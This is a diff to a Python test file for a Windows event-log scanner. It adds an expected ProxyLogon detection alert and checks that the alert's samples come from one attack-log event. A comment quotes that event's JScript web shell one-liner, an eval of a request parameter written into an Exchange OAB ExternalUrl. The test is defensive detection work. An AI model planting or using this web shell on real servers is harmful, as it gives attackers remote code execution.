@@ -41,10 +41,22 @@ REAL_RECORD = os.path.join(ROOT, "tests", "data", "evtx_golden",
 REAL_EVTX = os.path.join(ROOT, "tests", "data", "evtx", "MSExchange_Management_wec.evtx")
 
 # (rule id, host) of every alert the shipped rules raise on the shared
-# corpus. None: the corpus holds no Exchange server's Application log (no
-# EEMS or Unified Messaging events), and its one MSExchange Management
-# record is an ordinary Set-Mailbox (a near miss: it has -Identity).
-CORPUS_ALERTS = []
+# corpus, each a true positive:
+# - proxylogon_ssrf_rce_poc_2021-03-14T01401970.json.gz (OTRF, NXLog-style
+#   NDJSON from a real Exchange server, MXS01, attacked with a ProxyLogon
+#   proof of concept) holds the MSExchange CmdletLogs event 1 (channel
+#   "MSExchange Management", 2021-03-14T01:40:12.987Z) whose Message field
+#   records "Cmdlet Set-OabVirtualDirectory, parameters -ExternalUrl
+#   "http://ffff/#<script language="JScript" runat="server"> function
+#   Page_Load(){/**/eval(Request["code"],"unsafe");}</script>" -Identity
+#   "OAB (Default Web Site)"": the OAB virtual directory's ExternalUrl set to
+#   a JScript web shell, the ProxyLogon write (CVE-2021-27065) the rule is
+#   for. Its Hostname is MXS01.azsentinel.local (hosts are compared lower case).
+# Nothing else in the corpus is an Exchange server's attack or EEMS failure:
+# its one MSExchange Management EVTX record is an ordinary Set-Mailbox (a near
+# miss: it has -Identity).
+CORPUS_ALERTS = [("proxylogon_oab_virtual_directory", "mxs01.azsentinel.local")]
+PROXYLOGON_FILE = "proxylogon_ssrf_rce_poc_2021-03-14T01401970.json.gz"
 
 # (cmdlet, parameters, the rule that must fire or None), per domain.md
 # section 4. Parameters are written as CmdletLogs writes them: -Name "value".
@@ -95,8 +107,18 @@ class RulesCorpusTest(unittest.TestCase):
         # Some corpus files are damaged on purpose: errors are reported, the
         # scan goes on; no input is unreadable.
         self.assertIn(r.returncode, (0,), r.stderr.decode()[-3000:])
-        got = sorted((a["rule"]["id"], a["host"]) for a in alerts_of(r.stdout))
+        alerts = alerts_of(r.stdout)
+        got = sorted((a["rule"]["id"], a["host"]) for a in alerts)
         self.assertEqual(got, sorted(CORPUS_ALERTS))
+        # The ProxyLogon alert comes from the event explained above, nowhere else.
+        oab = [a for a in alerts if a["rule"]["id"] == "proxylogon_oab_virtual_directory"]
+        for sample in oab[0]["samples"]:
+            self.assertTrue(sample["source"]["file"].endswith(PROXYLOGON_FILE), sample)
+            self.assertEqual((sample["provider"], sample["event_id"], sample["channel"]),
+                             ("MSExchange CmdletLogs", 1, "MSExchange Management"))
+            self.assertEqual(sample["time"], "2021-03-14T01:40:12.9870000Z")
+            self.assertIn("Cmdlet Set-OabVirtualDirectory, parameters -ExternalUrl", sample["message"])
+            self.assertIn('runat="server"', sample["message"])
         # The scan did read the corpus (not an empty run passing by accident).
         self.assertRegex(r.stderr.decode(), r"eventsift scan: [1-9]\d* inputs \(0 unreadable\), "
                                             r"[1-9]\d{4,} events")
